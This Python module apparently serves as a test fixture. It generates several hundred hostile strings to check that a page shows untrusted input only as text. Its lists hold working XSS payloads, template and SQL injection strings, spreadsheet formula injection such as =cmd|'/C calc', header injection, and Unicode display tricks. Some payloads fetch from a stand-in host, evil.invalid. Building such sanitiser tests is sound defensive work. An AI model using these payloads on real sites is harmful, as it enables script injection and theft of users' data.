"""More than three hundred texts that are made to break a page: whoever shows one as anything but text fails a test.

Each one that runs calls ``__hit`` with its own number, opens a dialog, or fetches something from ``EVIL``.
"""

from __future__ import annotations

from collections.abc import Callable, Iterator
from itertools import product

EVIL = "https://evil.invalid"
TAGS = ("img", "svg", "body", "video", "details", "input", "marquee", "iframe", "object", "x-y", "audio", "style")
EVENTS = (
    "onerror",
    "onload",
    "onfocus",
    "onmouseover",
    "ontoggle",
    "onanimationstart",
    "onpointerenter",
    "onbegin",
    "onwheel",
    "onpaste",
)
SCHEMES = (
    "javascript:",
    "JaVaScRiPt:",
    "java\tscript:",
    "&#106;avascript:",
    "\x01javascript:",
    "data:text/html,",
    "vbscript:",
    "feed:javascript:",
)
HOLDERS = (
    '<a href="{0}">x</a>',
    '<iframe src="{0}"></iframe>',
    '<form action="{0}"><button>x</button></form>',
    '<object data="{0}"></object>',
    '<embed src="{0}">',
    '<svg><a xlink:href="{0}"><text y="9">x</text></a></svg>',
)
FETCHERS = (
    '<img src="{0}">',
    '<link rel="stylesheet" href="{0}">',
    '<script src="{0}"></script>',
    '<iframe src="{0}"></iframe>',
    '<video poster="{0}"></video>',
    '<input type="image" src="{0}">',
    '<style>@import "{0}";</style>',
    '<p style="background:url({0})">x</p>',
    '<meta http-equiv="refresh" content="0;url={0}">',
    '<base href="{0}/">',
    '<svg><image href="{0}"/></svg>',
    '<svg><use href="{0}#x"/></svg>',
    "![x]({0})",
    "[x]: {0}",
    "<{0}>",
    '<picture><source srcset="{0}"><img></picture>',
    '<audio src="{0}" autoplay></audio>',
    '<table background="{0}"><tr><td>x',
)
BREAKOUTS = (
    '" {0} x="',
    "' {0} x='",
    '"><img {0}>',
    "'><img {0}>",
    "` {0} x=`",
    '"/><svg {0}>',
    "--><img {0}>",
    "]]><img {0}>",
    "</textarea><img {0}>",
    "</title><img {0}>",
    "</style><img {0}>",
    "</script><img {0}>",
    "</template><img {0}>",
    "</noscript><img {0}>",
    "</select><img {0}>",
    "</p></div></body><img {0}>",
    '<!--"--!><img {0}>',
    '<a title="</a><img {0}>">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img {0}&gt;">',
    '<svg></p><style><a id="</style><img {0}>">',
)
ENTITIES = (
    "&lt;img src=x onerror={0}&gt;",
    "&#60;img src=x onerror={0}&#62;",
    "&#x3c;script&#x3e;{0}&#x3c;/script&#x3e;",
    "&amp;lt;script&amp;gt;{0}&amp;lt;/script&amp;gt;",
    "%3Cscript%3E{0}%3C/script%3E",
    "%253Cscript%253E{0}%253C/script%253E",
    "\\u003cscript\\u003e{0}\\u003c/script\\u003e",
    "\\x3cscript\\x3e{0}\\x3c/script\\x3e",
    "+ADw-script+AD4-{0}+ADw-/script+AD4-",
    "\uff1cscript\uff1e{0}\uff1c/script\uff1e",
    "\u2039script\u203a{0}\u2039/script\u203a",
    "<scr\x00ipt>{0}</scr\x00ipt>",
    "<scr<script>ipt>{0}</scr</script>ipt>",
    "<sc\u200bript>{0}</sc\u200bript>",
    "<\u0000script>{0}</script>",
    "&NewLine;javascript&colon;{0}",
)
TEMPLATES = (
    "{{{{constructor.constructor('{0}')()}}}}",
    "${{{0}}}",
    "{{%{0}%}}",
    "<%= {0} %>",
    "#{{{0}}}",
    "[[${{{0}}}]]",
    "{{{{{0}}}}}",
    "<!--?lit$0$-->${{{0}}}",
    "<?lit$123$?>{0}",
    "{{name}} {{place}} {0}",
    "{{term_moms}} {0}",
    "%(x)s {0}",
    "{{0.__class__}} {0}",
    "`${{{0}}}`",
    "*{{{0}}}",
    "@{{{0}}}",
    "<?php {0} ?>",
    "$({0})",
    "#let x = {0}",
    "\\input{{{0}}}",
)
DATA = (
    '{{"type":"message","message":"</script><script>{0}</script>"}}',
    '"}}]}};{0};//',
    "';{0};//",
    '";{0};//',
    "</script ><script>{0}</script>",
    '{{"__proto__":{{"html":"<img src=x onerror={0}>"}}}}',
    "constructor[{0}]",
    '=HYPERLINK("javascript:{0}","x")',
    "=cmd|'/C calc'!A0 {0}",
    "+1+{0}",
    "-2+{0}",
    "@SUM({0})",
    "\t={0}",
    "');DROP TABLE message;-- {0}",
    "1 OR 1=1 {0}",
    "\r\nSet-Cookie: x={0}",
    "\r\n\r\n<script>{0}</script>",
    "javascript:/*--></title></style></textarea></script><svg onload={0}>*/",
)
MARKDOWN = (
    "[x](javascript:{0})",
    "![x](javascript:{0})",
    "<javascript:{0}>",
    '[x](data:text/html,<script>{0}</script> "t")',
    "```html\n<script>{0}</script>\n```",
    "# <img src=x onerror={0}>",
    "> <svg onload={0}>",
    "- [ ] <img src=x onerror={0}>",
    "|<img src=x onerror={0}>|\n|-|",
    "[x][1]\n\n[1]: javascript:{0}",
)
STYLES = (
    "<style>*{{animation:x}}@keyframes x{{}}</style><p onanimationstart={0}>x",
    "<p style=width:expression({0})>x",
    "<p style=position:fixed;inset:0;background:red>{0}",
    "<style>.root{{display:none!important}}</style>{0}",
    "</style><style>*{{display:none}}</style>{0}",
    "<link rel=stylesheet href=data:text/css,*%7Bdisplay:none%7D>{0}",
    "<div style=font-size:9999px>{0}</div>",
    '<p style="behavior:url(#x)" {0}>',
    "<plaintext>{0}",
    "<xmp><p></xmp><img src=x onerror={0}>",
)
SIGNS = (
    "\u202e{0}",
    "\u202d{0}\u202c\u202c\u202c",
    "\u2066\u2067\u2068{0}",
    "\u2069\u2069\u2069{0}",
    "\u200f\u200e\u061c{0}",
    "\u202bمرحبا {0}",
    "\u200b\u200c\u200d\ufeff{0}\u2060",
    "a\u0301\u0302\u0303" + "\u0304" * 300 + "{0}",
    "\u0e47" * 200 + "{0}",
    "\U000e0001\U000e0041{0}",
    "\ud83d{0}",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466{0}",
    "\ufdfd\ufdfd\ufdfd{0}",
    "W" * 600 + "{0}",
    "\u2028\u2029\x85{0}",
    "\u3164\u2800{0}",
    "𒐫" * 30 + "{0}",
    "ﷺ\u200f({0})",
    "\u0600\u06dd\u08e2{0}",
    "‮<img src=x onerror={0}>‬",
    "{0}\n\n\n\n\n\n\n\n",
    "\x1b[31m{0}\x07",
    "\ufff9x\ufffa{0}\ufffb",
    "⟦{0}⟧\u0336\u0488",
)
SCRIPTS = tuple(
    f"<{tag}>{{0}}</script>"
    for tag in ("script", "svg><script", "math><script", "noscript><script", "svg><foreignObject><script")
)
CALLS = ("__hit({0})", "alert({0})", "top.__hit({0})", "window['__hit']({0})", "fetch('" + EVIL + "/{0}')")


Fill = Callable[[int], str]


def hostile_texts() -> tuple[str, ...]:
    """Make them all, each one different from the others, in the same order every time."""
    return tuple(pattern.format(fill(number)) for number, (pattern, fill) in enumerate(_patterns()))


def _patterns() -> Iterator[tuple[str, Fill]]:
    for tag, event in product(TAGS, EVENTS):
        yield f"<{tag} src=x tabindex=0 autofocus {event}={{0}}>", _call
    for scheme, holder in product(SCHEMES, HOLDERS):
        yield holder.replace("{0}", scheme + "{0}"), _call
    for holder in FETCHERS:
        yield holder, _address
    for pattern in BREAKOUTS:
        yield pattern, _handler
    for pattern in (*ENTITIES, *TEMPLATES, *DATA, *MARKDOWN, *STYLES, *SIGNS, *SCRIPTS):
        yield pattern, _call


def _call(number: int) -> str:
    return CALLS[number % len(CALLS)].format(number)


def _handler(number: int) -> str:
    return f"src=x onerror={_call(number)}"


def _address(number: int) -> str:
    return f"{EVIL}/{number}"
